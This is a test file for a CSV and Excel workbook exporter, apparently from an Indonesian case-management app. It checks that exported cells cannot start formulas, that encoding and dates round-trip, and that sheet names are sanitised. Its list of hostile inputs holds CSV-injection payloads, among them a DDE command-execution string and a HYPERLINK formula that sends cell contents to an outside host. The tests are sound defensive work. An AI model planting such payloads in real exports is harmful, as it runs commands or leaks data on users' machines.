/** Tables as they leave the office: as CSV and as a workbook, each read back by the test's own eyes. */
import t from "tap";
import { csvOf } from "../../../src/client/sheets/csv.ts";
import type { Sheet } from "../../../src/client/sheets/sheet.ts";
import { workbookOf } from "../../../src/client/sheets/workbook.ts";
import { readZip } from "../../support/proof/zip.ts";

const SHEET: Sheet = {
  name: "Daftar kasus",
  columns: [
    { name: "Nomor", kind: "text" },
    { name: "Hari", kind: "number" },
    { name: "Tenggat", kind: "day" },
    { name: "Bagian", kind: "share" },
  ],
  rows: [
    ["K7QD-4M2P", -5, "2026-11-25", 0.25],
    ['Kata "kutip", koma\r\ndan baris', 1.5, null, "< 5"],
  ],
};

/** RFC 4180, and Excel where the office's language separates by another sign: there a quote opens only a cell's beginning. */
function readCsv(bytes: Uint8Array, separator = ","): string[][] {
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes).replace(/^\uFEFF/u, "");
  const rows: string[][] = [[]];
  let at = 0;
  while (at < text.length) {
    let cell = "";
    if (text[at] === '"') {
      for (at++; at < text.length; at++)
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') cell += text[at++];
        else break;
      at++;
    }
    while (at < text.length && text[at] !== separator && text[at] !== "\r" && text[at] !== "\n") cell += text[at++];
    rows.at(-1)?.push(cell);
    if (text[at] === "\r" && text[at + 1] === "\n") at++;
    if (text[at] !== separator && at + 1 < text.length) rows.push([]);
    at++;
  }
  return rows;
}

const sheetOf = (...texts: readonly string[]): Sheet => ({
  name: "x",
  columns: [
    { name: "a", kind: "text" },
    { name: "b", kind: "text" },
  ],
  rows: texts.map((text) => ["x", text]),
});

/** Signs that fold to those with which a formula begins (Unicode NFKC), all of them. */
const FOLDED = Array.from({ length: 0x10000 }, (_, code) => String.fromCharCode(code)).filter((sign) =>
  /^[=+\-@]/u.test(sign.normalize("NFKC")),
);

const HOSTILE = [
  ...FOLDED.map((sign) => `${sign}1+1`),
  '=HYPERLINK("http://example.org/?"&A1;"klik")',
  "=cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\tx",
  "\rx",
  " =1",
  "\u00a0\u200b=1",
  '"=1',
  "'=1",
  "“=1",
  "\u0000=1",
  "=\u0338 1",
  "baik;=1",
  'baik;"=1',
  "baik; =1",
  "baik\n=1",
  "baik\r\n=1",
  "baik\t=1",
  "baik|@x",
  '",=1',
];
const isFormula = (cell: string) => /^[\s"\p{Cf}\p{Cc}]*[=+\-@]|^[\t\r]/u.test(cell.normalize("NFKC"));

t.test("attack 33: no cell of a CSV begins a formula, whatever sign the program that opens it separates by", (t) => {
  t.ok(FOLDED.length >= 10);
  const bytes = csvOf(sheetOf(...HOSTILE));
  for (const separator of [",", ";", "\t", "|"])
    t.same(readCsv(bytes, separator).flat().filter(isFormula), [], JSON.stringify(separator));
  const guarded = readCsv(bytes).slice(1);
  t.equal(guarded.length, HOSTILE.length);
  const bare = (text = "") => text.replaceAll("'", "");
  t.same(
    guarded.map(([, cell]) => bare(cell)),
    HOSTILE.map(bare),
    "and nothing else is changed",
  );
  t.notOk(isFormula(readCsv(csvOf({ ...SHEET, columns: [{ name: "=1", kind: "text" }], rows: [] }))[0]?.[0] ?? "="));
  for (const kind of ["number", "day", "share"] as const) {
    const sheet: Sheet = { name: "x", columns: [{ name: "a", kind }], rows: [["=1"], ["-1"], ["2026-11-25;=1"]] };
    for (const cell of readCsv(csvOf(sheet), ";").flat()) t.notOk(isFormula(cell), "a text in a column of numbers");
  }
  t.end();
});

t.test("a CSV is UTF-8 with its mark and CRLF, and what was in it comes back", (t) => {
  const bytes = csvOf(SHEET);
  t.same([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  t.same(readCsv(bytes), [
    ["Nomor", "Hari", "Tenggat", "Bagian"],
    ["K7QD-4M2P", "-5", "2026-11-25", "0.25"],
    ['Kata "kutip", koma\r\ndan baris', "1.5", "", "< 5"],
  ]);
  t.match(new TextDecoder().decode(bytes), /\r\n$/u);
  t.end();
});

type ReadCell = { readonly type: string; readonly value: string; readonly format: string };

const xmlText = (text: string) =>
  text
    .replace(/_x([0-9A-F]{4})_/gu, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)))
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&amp;", "&");

/** What a workbook's first sheet says, cell by cell, as its XML has it. */
function readSheet(workbook: Uint8Array): { readonly xml: string; readonly cells: ReadonlyMap<string, ReadCell> } {
  const files = readZip(workbook);
  const xmlOf = (name: string) => files.get(name)?.toString() ?? "";
  const formats = new Map(
    [...xmlOf("xl/styles.xml").matchAll(/<numFmt numFmtId="(\d+)" formatCode="([^"]+)"/gu)].map(([, id, code]) => [
      id,
      code,
    ]),
  );
  const styles = [
    ...(/<cellXfs[^]*<\/cellXfs>/u.exec(xmlOf("xl/styles.xml"))?.[0] ?? "").matchAll(/<xf [^>]*numFmtId="(\d+)"/gu),
  ];
  const formatOf = (style: string) => {
    const id = styles[Number(style)]?.[1] ?? "";
    return formats.get(id) ?? id;
  };
  const xml = xmlOf("xl/worksheets/sheet1.xml");
  const cells = [...xml.matchAll(/<c ([^>]*?)(?:\/>|>([^]*?)<\/c>)/gu)].map(([, attributes = "", inner = ""]) => {
    const attribute = (name: string) => new RegExp(`(?:^| )${name}="([^"]*)"`, "u").exec(attributes)?.[1] ?? "";
    const value = /<(?:v|t)(?: [^>]*)?>([^]*?)<\/(?:v|t)>/u.exec(inner)?.[1] ?? "";
    return [attribute("r"), { type: attribute("t"), value: xmlText(value), format: formatOf(attribute("s")) }] as const;
  });
  return { xml: [...files.values()].join("\n"), cells: new Map(cells) };
}

t.test("attack 33: in a workbook every text is text, and stays it when somebody edits it", async (t) => {
  const texts = [...HOSTILE, "#REF!", "#N/A", " spasi di depan", "<f>1+1</f>", "]]>&lt;"];
  const { xml, cells } = readSheet(await workbookOf([sheetOf(...texts)]));
  t.notMatch(xml, /<f[ >]/u, "there is no formula");
  t.notMatch(xml, /<hyperlink|externalLink|macro/iu);
  texts.forEach((text, at) => {
    const cell = cells.get(`B${at + 2}`);
    t.match(cell, { type: "inlineStr", format: /^(?:@|49)$/u }, JSON.stringify(text));
    t.equal(cell?.value, text);
  });
});

t.test("in a workbook numbers are numbers, days are days, and it tells no hour", async (t) => {
  const { xml, cells } = readSheet(await workbookOf([SHEET, { ...SHEET, name: "Daftar kasus" }]));
  t.match(cells.get("A2"), { type: "inlineStr", value: "K7QD-4M2P" });
  t.match(cells.get("B2"), { type: "", value: "-5" });
  t.match(cells.get("C2"), {
    type: "",
    value: String(Date.UTC(2026, 10, 25) / 86_400_000 + 25_569),
    format: "yyyy-mm-dd",
  });
  t.match(cells.get("D2"), { type: "", value: "0.25", format: /^0\.0%$/u });
  t.match(cells.get("D3"), { type: "inlineStr", value: "< 5" });
  t.match(xml, /name="Daftar kasus \(2\)"/u, "no two sheets have one name");
  t.same(xml.match(/\d{4}-\d\d-\d\dT[\d:]+/gu), ["1980-01-01T00:00:00"], "the file says no day of its own");
  const again = await workbookOf([SHEET, { ...SHEET, name: "Daftar kasus" }]);
  t.same(
    again,
    await workbookOf([SHEET, { ...SHEET, name: "Daftar kasus" }]),
    "and the same tables make the same bytes",
  );
});

t.test("names of sheets that no spreadsheet takes are made to fit", async (t) => {
  const long = "Rekapitulasi [triwulan]: pengaduan/laporan?";
  const { xml } = readSheet(await workbookOf(["", long, long, "'a'"].map((name) => ({ ...SHEET, name }))));
  const names = [...xml.matchAll(/<sheet name="([^"]*)"/gu)].map(([, name = ""]) => xmlText(name));
  t.equal(names.length, 4);
  t.equal(new Set(names).size, 4);
  for (const name of names) t.match(name, /^(?!')[^[\]:*?/\\]{1,31}$/u);
});
